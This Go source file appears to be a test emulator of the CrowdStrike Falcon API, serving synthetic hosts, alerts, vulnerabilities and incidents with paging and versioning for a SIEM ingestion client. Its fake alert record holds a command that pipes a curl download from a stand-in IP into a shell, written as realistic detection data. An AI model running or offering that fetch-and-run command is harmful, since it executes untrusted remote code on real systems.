package falcon

import (
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"
)

// ResourceSpec is one API resource as Falcon serves it: its query and
// entity endpoints, their limits, the timestamp field its incremental
// filters and sorting use, its paging and the scope that guards it.
type ResourceSpec struct {
	Name       string
	QueryPath  string // GET, answers ids
	EntityPath string // details
	// EntityPost: details are POSTed as {IDsKey: [...]}; else GET ?ids=…
	EntityPost bool
	IDsKey     string
	TimeField  string
	MaxQuery   int // limit of the query endpoint
	MaxEntity  int // ids per details call
	// After: the query endpoint pages with meta.pagination.after tokens
	// (and takes no offset); else offset.
	After bool
	// FilterRequired: a query without filter is answered 400.
	FilterRequired bool
	// SortSep separates field and direction in the sort parameter.
	SortSep string
	Scope   string
	// Deprecated: removal announced for March 2026 (see Server.Remove).
	Deprecated bool
}

// Resources are the six API resources of contracts/falcon.md.
var Resources = []ResourceSpec{
	{Name: "hosts", QueryPath: "/devices/queries/devices/v1", EntityPath: "/devices/entities/devices/v2", EntityPost: true, IDsKey: "ids",
		TimeField: "modified_timestamp", MaxQuery: 5000, MaxEntity: 5000, SortSep: ".", Scope: "Hosts: read"},
	{Name: "alerts", QueryPath: "/alerts/queries/alerts/v2", EntityPath: "/alerts/entities/alerts/v2", EntityPost: true, IDsKey: "composite_ids",
		TimeField: "updated_timestamp", MaxQuery: 10000, MaxEntity: 1000, SortSep: "|", Scope: "Alerts: read"},
	{Name: "vulnerabilities", QueryPath: "/spotlight/queries/vulnerabilities/v1", EntityPath: "/spotlight/entities/vulnerabilities/v2", IDsKey: "ids",
		TimeField: "updated_timestamp", MaxQuery: 400, MaxEntity: 400, After: true, FilterRequired: true, SortSep: "|", Scope: "Vulnerabilities: read"},
	{Name: "filevantage", QueryPath: "/filevantage/queries/changes/v2", EntityPath: "/filevantage/entities/changes/v2", IDsKey: "ids",
		TimeField: "action_timestamp", MaxQuery: 500, MaxEntity: 500, SortSep: "|", Scope: "Falcon FileVantage: read"},
	{Name: "incidents", QueryPath: "/incidents/queries/incidents/v1", EntityPath: "/incidents/entities/incidents/GET/v1", EntityPost: true, IDsKey: "ids",
		TimeField: "modified_timestamp", MaxQuery: 500, MaxEntity: 500, SortSep: ".", Scope: "Incidents: read", Deprecated: true},
	{Name: "behaviors", QueryPath: "/incidents/queries/behaviors/v1", EntityPath: "/incidents/entities/behaviors/GET/v1", EntityPost: true, IDsKey: "ids",
		TimeField: "timestamp", MaxQuery: 500, MaxEntity: 500, SortSep: ".", Scope: "Incidents: read", Deprecated: true},
}

// Spec returns the resource called name.
func Spec(name string) (ResourceSpec, bool) {
	for _, r := range Resources {
		if r.Name == name {
			return r, true
		}
	}
	return ResourceSpec{}, false
}

// Record is one version of a resource record.
type Record struct {
	ID      string
	Time    time.Time // the timestamp field
	Version int
}

// TimeLayout is how the emulator writes timestamp fields: milliseconds,
// so several records often share one timestamp.
const TimeLayout = "2006-01-02T15:04:05.000Z"

// resStore holds the records of every resource. Guarded by its own lock
// so that resources do not contend with streams.
type resStore struct {
	mu      sync.Mutex
	recs    map[string]map[string]*Record // resource → id → latest version
	removed map[string]int                // resource → 404 or 410
	denied  map[string]bool               // scope → missing
	// afters are live after tokens: token → cursor.
	afters   map[string]afterCursor
	afterTTL time.Duration
	seq      int
	// duringPage runs after a query or details answer is computed, before
	// it is written: tests inject updates while a client pages.
	duringPage func(resource string)
	stats      ResourceStats
	served     map[string]map[string]int    // resource → "id@version" → times served
	held       map[string]map[string]Record // resource → "id@version" → every version ever held
}

type afterCursor struct {
	resource, filter string
	last             sortKey
	expires          time.Time
}

// ResourceStats counts resource calls.
type ResourceStats struct {
	Queries, Entities, Records map[string]int // by resource
	Versions                   map[string]int // versions created, by resource
	ExpiredAfter, Denied       int
	Gone                       int
}

func (st *resStore) init() {
	st.recs = map[string]map[string]*Record{}
	st.removed = map[string]int{}
	st.denied = map[string]bool{}
	st.afters = map[string]afterCursor{}
	st.afterTTL = 2 * time.Minute
	st.served = map[string]map[string]int{}
	st.held = map[string]map[string]Record{}
	st.stats = ResourceStats{Queries: map[string]int{}, Entities: map[string]int{}, Records: map[string]int{}, Versions: map[string]int{}}
	for _, r := range Resources {
		st.recs[r.Name] = map[string]*Record{}
		st.served[r.Name] = map[string]int{}
		st.held[r.Name] = map[string]Record{}
	}
}

// VersionKey names one version of a record: "id@version".
func VersionKey(id string, version int) string { return id + "@" + strconv.Itoa(version) }

// Served returns how often each version of resource's records
// ("id@version") was answered by its details endpoint.
func (s *Server) Served(resource string) map[string]int {
	s.res.mu.Lock()
	defer s.res.mu.Unlock()
	out := make(map[string]int, len(s.res.served[resource]))
	for k, v := range s.res.served[resource] {
		out[k] = v
	}
	return out
}

// registerResources adds the resource routes to s.mux.
func (s *Server) registerResources() {
	s.res.init()
	for _, spec := range Resources {
		s.mux.HandleFunc("GET "+spec.QueryPath, func(w http.ResponseWriter, r *http.Request) { s.query(w, r, spec) })
		m := "GET "
		if spec.EntityPost {
			m = "POST "
		}
		s.mux.HandleFunc(m+spec.EntityPath, func(w http.ResponseWriter, r *http.Request) { s.entities(w, r, spec) })
	}
}

// AddRecords creates n records of resource, timestamped at, and returns
// their ids.
func (s *Server) AddRecords(resource string, n int, at time.Time) []string {
	st := &s.res
	st.mu.Lock()
	defer st.mu.Unlock()
	ids := make([]string, n)
	for i := range ids {
		st.seq++
		id := fmt.Sprintf("%s-%08d", resource[:3], st.seq)
		if resource == "alerts" {
			id = "cid0123456789abcdef:ind:" + id // composite ids
		}
		r := &Record{ID: id, Time: at.UTC().Truncate(time.Millisecond), Version: 1}
		st.recs[resource][id] = r
		st.hold(resource, *r)
		ids[i] = id
	}
	return ids
}

// UpdateRecords gives n records of resource (the oldest first: they move
// furthest in the sort order) a new version timestamped now, and returns
// their ids.
func (s *Server) UpdateRecords(resource string, n int) []string {
	st := &s.res
	st.mu.Lock()
	defer st.mu.Unlock()
	return st.update(resource, n, time.Now(), false, nil)
}

// UpdateWhere is UpdateRecords among the records whose current version ok
// accepts (nil: every record), the oldest first or, with newest, the newest
// first (records just created or updated: those a client is paging). ok is
// called with the server's lock held and must not call the Server. A test
// that accepts only versions its SIEM received can demand every version
// ever held, none having been replaced before it could be read.
func (s *Server) UpdateWhere(resource string, n int, newest bool, ok func(Record) bool) []string {
	st := &s.res
	st.mu.Lock()
	defer st.mu.Unlock()
	return st.update(resource, n, time.Now(), newest, ok)
}

func (st *resStore) update(resource string, n int, now time.Time, newest bool, ok func(Record) bool) []string {
	all := st.sorted(resource, nil)
	if newest {
		slices.Reverse(all)
	}
	var ids []string
	for i := 0; len(ids) < n && i < len(all); i++ {
		if ok != nil && !ok(all[i]) {
			continue
		}
		r := st.recs[resource][all[i].ID]
		r.Version++
		r.Time = now.UTC().Truncate(time.Millisecond)
		st.hold(resource, *r)
		ids = append(ids, r.ID)
	}
	return ids
}

// hold files a new version; st.mu held.
func (st *resStore) hold(resource string, r Record) {
	st.held[resource][VersionKey(r.ID, r.Version)] = r
	st.stats.Versions[resource]++
}

// Versions returns every version of resource's records the server ever
// held, superseded ones included, by timestamp then id.
func (s *Server) Versions(resource string) []Record {
	s.res.mu.Lock()
	defer s.res.mu.Unlock()
	out := make([]Record, 0, len(s.res.held[resource]))
	for _, r := range s.res.held[resource] {
		out = append(out, r)
	}
	slices.SortFunc(out, func(a, b Record) int {
		if c := a.Time.Compare(b.Time); c != 0 {
			return c
		}
		return strings.Compare(a.ID, b.ID)
	})
	return out
}

// Version returns version v of record id of resource, if the server ever
// held it.
func (s *Server) Version(resource, id string, v int) (Record, bool) {
	s.res.mu.Lock()
	defer s.res.mu.Unlock()
	r, ok := s.res.held[resource][VersionKey(id, v)]
	return r, ok
}

// Records returns a copy of the current version of every record of resource.
func (s *Server) Records(resource string) []Record {
	s.res.mu.Lock()
	defer s.res.mu.Unlock()
	return s.res.sorted(resource, nil)
}

// DuringPage sets a function called (with no lock held) after each query or
// details answer of a resource is computed and before it is written.
func (s *Server) DuringPage(f func(resource string)) {
	s.res.mu.Lock()
	s.res.duringPage = f
	s.res.mu.Unlock()
}

// DenyScope makes every call of the resources guarded by scope answer 403.
func (s *Server) DenyScope(scope string, denied bool) {
	s.res.mu.Lock()
	s.res.denied[scope] = denied
	s.res.mu.Unlock()
}

// Remove makes resource answer status (404 or 410) on every endpoint, as
// the deprecated incidents and behaviors APIs will; 0 restores it.
func (s *Server) Remove(resource string, status int) {
	s.res.mu.Lock()
	s.res.removed[resource] = status
	s.res.mu.Unlock()
}

// ExpireAfterTokens makes every after token handed out so far expired, and
// later ones live for ttl (0 keeps the current lifetime).
func (s *Server) ExpireAfterTokens(ttl time.Duration) {
	s.res.mu.Lock()
	defer s.res.mu.Unlock()
	clear(s.res.afters)
	if ttl > 0 {
		s.res.afterTTL = ttl
	}
}

// ResourceStats returns a copy of the resource counters.
func (s *Server) ResourceStats() ResourceStats {
	s.res.mu.Lock()
	defer s.res.mu.Unlock()
	c := s.res.stats
	cp := func(m map[string]int) map[string]int {
		o := map[string]int{}
		for k, v := range m {
			o[k] = v
		}
		return o
	}
	c.Queries, c.Entities, c.Records, c.Versions = cp(c.Queries), cp(c.Entities), cp(c.Records), cp(c.Versions)
	return c
}

type sortKey struct {
	t  time.Time
	id string
}

func (k sortKey) less(o sortKey) bool {
	if !k.t.Equal(o.t) {
		return k.t.Before(o.t)
	}
	return k.id < o.id
}

// sorted returns copies of the records of resource matching f, by
// timestamp then id (a stable order for ties); st.mu held.
func (st *resStore) sorted(resource string, f filter) []Record {
	spec, _ := Spec(resource)
	var out []Record
	for _, r := range st.recs[resource] {
		if f == nil || f.matchIn(spec, r) {
			out = append(out, *r)
		}
	}
	slices.SortFunc(out, func(a, b Record) int {
		ka, kb := sortKey{a.Time, a.ID}, sortKey{b.Time, b.ID}
		switch {
		case ka.less(kb):
			return -1
		case kb.less(ka):
			return 1
		}
		return 0
	})
	return out
}

// gate answers what every resource call checks first: the bearer token,
// removal, scope, rate limit. It reports whether the call may proceed.
func (s *Server) gate(w http.ResponseWriter, r *http.Request, spec ResourceSpec) bool {
	s.mu.Lock()
	ok := s.bearer(w, r) && !s.rateLimited(w)
	s.mu.Unlock()
	if !ok {
		return false
	}
	st := &s.res
	st.mu.Lock()
	gone, denied := st.removed[spec.Name], st.denied[spec.Scope]
	switch {
	case gone != 0:
		st.stats.Gone++
	case denied:
		st.stats.Denied++
	}
	st.mu.Unlock()
	switch {
	case gone != 0:
		apiError(w, gone, "this API has been decommissioned; use the Alerts API")
		return false
	case denied:
		apiError(w, http.StatusForbidden, "access denied, authorization failed")
		return false
	}
	return true
}

func (s *Server) badRequest(w http.ResponseWriter, msg string) {
	s.mu.Lock()
	s.stats.BadRequests++
	s.mu.Unlock()
	apiError(w, http.StatusBadRequest, msg)
}

func (s *Server) query(w http.ResponseWriter, r *http.Request, spec ResourceSpec) {
	if !s.gate(w, r, spec) {
		return
	}
	q := r.URL.Query()
	limit := 100
	if v := q.Get("limit"); v != "" {
		n, err := strconv.Atoi(v)
		if err != nil || n < 1 || n > spec.MaxQuery {
			s.badRequest(w, fmt.Sprintf("limit must be between 1 and %d", spec.MaxQuery))
			return
		}
		limit = n
	}
	if sort := q.Get("sort"); sort != "" {
		field, dir, ok := strings.Cut(sort, spec.SortSep)
		if !ok || field != spec.TimeField || (dir != "asc" && dir != "desc") {
			s.badRequest(w, fmt.Sprintf("invalid sort %q: want %s%sasc", sort, spec.TimeField, spec.SortSep))
			return
		}
		if dir == "desc" {
			s.badRequest(w, "the emulator sorts ascending only")
			return
		}
	}
	raw := q.Get("filter")
	if raw == "" && spec.FilterRequired {
		s.badRequest(w, "filter is required")
		return
	}
	f, err := parseFilter(raw)
	if err != nil {
		s.badRequest(w, err.Error())
		return
	}
	st := &s.res
	st.mu.Lock()
	recs := st.sorted(spec.Name, f)
	total := len(recs)
	pagination := map[string]any{"limit": limit, "total": total}
	var page []Record
	if spec.After {
		if q.Has("offset") {
			st.mu.Unlock()
			s.badRequest(w, "this endpoint pages with after, not offset")
			return
		}
		start := 0
		if tok := q.Get("after"); tok != "" {
			c, ok := st.afters[tok]
			if !ok || time.Now().After(c.expires) || c.resource != spec.Name || c.filter != raw {
				st.stats.ExpiredAfter++
				st.mu.Unlock()
				s.badRequest(w, "invalid or expired after token")
				return
			}
			start = len(recs)
			for i, rec := range recs {
				if c.last.less(sortKey{rec.Time, rec.ID}) {
					start = i
					break
				}
			}
		}
		page = recs[start:min(start+limit, len(recs))]
		after := ""
		if start+len(page) < len(recs) && len(page) > 0 {
			after = randomToken()
			l := page[len(page)-1]
			st.afters[after] = afterCursor{resource: spec.Name, filter: raw, last: sortKey{l.Time, l.ID}, expires: time.Now().Add(st.afterTTL)}
		}
		pagination["after"] = after
	} else {
		offset := 0
		if v := q.Get("offset"); v != "" {
			n, err := strconv.Atoi(v)
			if err != nil || n < 0 || n+limit > 10000 {
				st.mu.Unlock()
				s.badRequest(w, "offset must be a whole number and offset+limit at most 10000")
				return
			}
			offset = n
		}
		pagination["offset"] = offset
		if offset < len(recs) {
			page = recs[offset:min(offset+limit, len(recs))]
		}
	}
	st.stats.Queries[spec.Name]++
	during := st.duringPage
	st.mu.Unlock()
	ids := make([]string, len(page))
	for i, rec := range page {
		ids[i] = rec.ID
	}
	if during != nil {
		during(spec.Name)
	}
	m := meta()
	m["pagination"] = pagination
	writeJSON(w, http.StatusOK, map[string]any{"meta": m, "resources": ids, "errors": []any{}})
}

func (s *Server) entities(w http.ResponseWriter, r *http.Request, spec ResourceSpec) {
	if !s.gate(w, r, spec) {
		return
	}
	var ids []string
	if spec.EntityPost {
		if !strings.HasPrefix(r.Header.Get("Content-Type"), "application/json") {
			s.badRequest(w, "Content-Type: application/json required")
			return
		}
		var body map[string][]string
		if err := json.NewDecoder(http.MaxBytesReader(w, r.Body, 8<<20)).Decode(&body); err != nil {
			s.badRequest(w, "invalid JSON body: "+err.Error())
			return
		}
		for k := range body {
			if k != spec.IDsKey {
				s.badRequest(w, fmt.Sprintf("unknown body key %q (want %q)", k, spec.IDsKey))
				return
			}
		}
		ids = body[spec.IDsKey]
	} else {
		ids = r.URL.Query()["ids"]
	}
	if len(ids) == 0 || len(ids) > spec.MaxEntity {
		s.badRequest(w, fmt.Sprintf("between 1 and %d ids required, got %d", spec.MaxEntity, len(ids)))
		return
	}
	st := &s.res
	st.mu.Lock()
	out := make([]json.RawMessage, 0, len(ids))
	for _, id := range ids {
		if rec, ok := st.recs[spec.Name][id]; ok {
			out = append(out, recordJSON(spec, *rec))
			st.served[spec.Name][VersionKey(rec.ID, rec.Version)]++
		}
	}
	st.stats.Entities[spec.Name]++
	st.stats.Records[spec.Name] += len(out)
	during := st.duringPage
	st.mu.Unlock()
	if during != nil {
		during(spec.Name)
	}
	writeJSON(w, http.StatusOK, map[string]any{"meta": meta(), "resources": out, "errors": []any{}})
}

// RecordJSON returns the details of version r of a record of resource
// exactly as the details endpoints serve them.
func RecordJSON(resource string, r Record) json.RawMessage {
	spec, _ := Spec(resource)
	return recordJSON(spec, r)
}

// recordJSON renders a record of spec with realistic fields around its id,
// version and timestamp field.
func recordJSON(spec ResourceSpec, r Record) json.RawMessage {
	ts := r.Time.Format(TimeLayout)
	var b []byte
	switch spec.Name {
	case "hosts":
		b = fmt.Appendf(nil, `{"device_id":%q,"cid":"0123456789abcdef0123456789abcdef","hostname":"node-%s","platform_name":"Linux","os_version":"Debian 12","agent_version":"7.18.17106.0","local_ip":"10.0.%d.%d","status":"normal","first_seen":"2025-01-01T00:00:00Z","last_seen":%q,"modified_timestamp":%q,"tags":["SensorGroupingTags/k8s"],"siemship_version":%d}`,
			r.ID, r.ID[4:], r.Version%250, len(r.ID)%250, ts, ts, r.Version)
	case "alerts":
		b = fmt.Appendf(nil, `{"composite_id":%q,"id":"ind:%s","type":"ldt","severity":%d,"status":"new","tactic":"Execution","technique":"Command and Scripting Interpreter","cmdline":"/bin/sh -c curl http://198.51.100.%d/x | sh","created_timestamp":"2025-01-01T00:00:00.000Z","updated_timestamp":%q,"siemship_version":%d}`,
			r.ID, r.ID[len(r.ID)-12:], 10+r.Version%90, r.Version%250, ts, r.Version)
	case "vulnerabilities":
		b = fmt.Appendf(nil, `{"id":%q,"cid":"0123456789abcdef0123456789abcdef","aid":"aid-%s","status":"open","cve":{"id":"CVE-2024-%04d","base_score":7.5,"severity":"HIGH"},"created_timestamp":"2025-01-01T00:00:00Z","updated_timestamp":%q,"siemship_version":%d}`,
			r.ID, r.ID[4:], r.Version%10000, ts, r.Version)
	case "filevantage":
		b = fmt.Appendf(nil, `{"id":%q,"cid":"0123456789abcdef0123456789abcdef","host":{"name":"node-%s"},"entity_type":"file","action_type":"modify","file_path":"/etc/cron.d/job%d","severity":"high","action_timestamp":%q,"siemship_version":%d}`,
			r.ID, r.ID[4:], r.Version, ts, r.Version)
	case "incidents":
		b = fmt.Appendf(nil, `{"incident_id":%q,"cid":"0123456789abcdef0123456789abcdef","state":"open","status":20,"fine_score":%d,"start":"2025-01-01T00:00:00Z","modified_timestamp":%q,"siemship_version":%d}`,
			r.ID, r.Version%100, ts, r.Version)
	default: // behaviors
		b = fmt.Appendf(nil, `{"behavior_id":%q,"cid":"0123456789abcdef0123456789abcdef","incident_id":"inc-1","tactic":"Persistence","cmdline":"crontab -e","timestamp":%q,"siemship_version":%d}`,
			r.ID, ts, r.Version)
	}
	return b
}

// IDField names the field holding a record's id in its details.
func IDField(resource string) string {
	switch resource {
	case "hosts":
		return "device_id"
	case "alerts":
		return "composite_id"
	case "incidents":
		return "incident_id"
	case "behaviors":
		return "behavior_id"
	}
	return "id"
}
